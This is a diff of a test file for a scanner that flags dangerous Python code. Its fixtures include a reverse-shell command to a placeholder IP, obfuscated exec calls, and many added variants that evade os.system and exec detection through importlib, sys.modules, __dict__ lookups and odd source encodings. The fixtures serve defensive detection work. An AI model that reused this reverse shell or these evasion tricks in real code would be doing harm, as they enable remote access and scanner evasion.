@@ -19,6 +19,9 @@ const HIDDEN = [
   'import subprocess as s\ns.run("bash -i >& /dev/tcp/192.0.2.1/1", shell=True)\n',
   'import codecs\nexec(codecs.decode("vzcbeg bf", "rot13"))\n',
   'exec(bytes.fromhex("6f73").decode())\n',
+  '# coding: utf-7\nx = 1\n',
+  '#!/usr/bin/python\n# -*- coding: unicode_escape -*-\nx = 1\n',
+  '# vim: set fileencoding=rot13 :\nx = 1\n',
   '__builtins__.exec(__import__("base64").b64decode("aaaa"))\nimport base64\nexec(base64.b64decode("x"))',
 ];
 const RUNNING = [
@@ -33,6 +36,15 @@ const RUNNING = [
   'import os\ngetattr(os, name)("ls")\n',
   'getattr(__import__("os"), "system")("ls")\n',
   'import os\nrun = os.system\nrun("ls")\n',
+  'o = __import__("os")\no.system("ls")\n',
+  'import importlib as i\nm = i.import_module("subprocess")\nm.run(["ls"])\n',
+  'import os\na = os\nb = a\nb.popen("ls")\n',
+  'from os import *\nsystem("ls")\n',
+  'import sys\nsys.modules["os"].system("ls")\n',
+  'import sys\nm = sys.modules["os"]\nm.system("ls")\n',
+  'import os\nos.__dict__["system"]("ls")\n',
+  'import os\nvars(os)["system"]("ls")\n',
+  'if (o := __import__("os")):\n  o.system("ls")\n',
   'import os\nx = 1; os.system("ls")\n',
   'import os\nos.\\\n  system("ls")\n',
   'import os\nos.\u{1d530}ystem("ls")\n',
@@ -50,6 +62,8 @@ const BROKEN = [
 const HARMLESS = [
   'import torch\nimport os\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    def eval(self):\n        return self.inner.eval()\n\n    def exec(self, x):\n        return torch.compile(x)\n\n    def path(self):\n        return os.path.join("a", os.environ["HOME"])\n',
   '"""Runs os.system("x") and exec(base64.b64decode(y)) in its text only."""\nimport base64\nfrom subprocess import PIPE, CalledProcessError\n# os.system("x")\nimage = base64.b64decode("aaaa")\n',
+  '# -*- coding: latin-1 -*-\n# no coding here\nexec = None\nrun(exec=exec)\nsystem = platform.system\nsystem()\n',
+  'import sys\nif "torch" in sys.modules:\n  x = sys.modules["torch"].cuda\nos = 3\nfrom math import *\nsystem(1)\n',
   'import re\npattern = re.compile("x")\nmodel.eval()\nresult = df.eval("a + b")\n',
   'from transformers import AutoModel\nmodel = AutoModel.from_pretrained("acme/model")\nprint(f"{model!r:>{10}}", \'\'\'a\n"""b\'\'\')\n',
 ];
@@ -65,12 +79,16 @@ describe('code of Python', () => {
     expect(findings.map(({ rule }) => rule)).toContain('python-process');
     expect(verdict).toBe('suspicious');
   });
-  it.each(['eval(text)\n', 'import ctypes\nctypes.CDLL("./a.so")\n', 'import torch\ntorch.ops.load_library("a.so")\n'])(
-    'that runs what it makes is suspicious: %j',
-    async (text) => {
-      expect(await scan(text)).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'python-eval' }, {}] });
-    },
-  );
+  it.each([
+    'eval(text)\n',
+    'list(map(exec, [text]))\n',
+    '@exec\n@input\nclass A: pass\n',
+    '__builtins__.__dict__["exec"](text)\n',
+    'import ctypes\nctypes.CDLL("./a.so")\n',
+    'import torch\ntorch.ops.load_library("a.so")\n',
+  ])('that runs what it makes is suspicious: %j', async (text) => {
+    expect(await scan(text)).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'python-eval' }, {}] });
+  });
   it.each(HARMLESS)('that does not is clean: %j', async (text) => {
     expect(await scan(text)).toMatchObject({ verdict: 'clean', status: 'complete', findings: [{ rule: 'python-code' }] });
   });
@@ -89,19 +107,5 @@ describe('code of Python', () => {
   it('is known by its content, and pages that show code are not', async () => {
     expect(await scan(RUNNING[0] ?? '', 'a')).toMatchObject({ formats: ['python'] });
     expect(await scan('From now on\nimport os\nos.system("x")\n', 'README.md')).toMatchObject({ formats: ['text'], findings: [] });
-  });
-  it('of TorchScript that reads files is suspicious', async () => {
-    const name = 'archive/code/__torch__/net.py';
-    expect(
-      await scan('class Net(Module):\n  def forward(self, x):\n    _0 = torch.from_file("/etc/hostname")\n    return _0\n', name),
-    ).toMatchObject({
-      verdict: 'suspicious',
-    });
-    expect(
-      await scan('class Net(Module):\n  def forward(self, x):\n    _0 = torch.add(x, ops.torchvision.nms(x))\n    return _0\n', name),
-    ).toMatchObject({
-      verdict: 'clean',
-      findings: [],
-    });
   });
 });
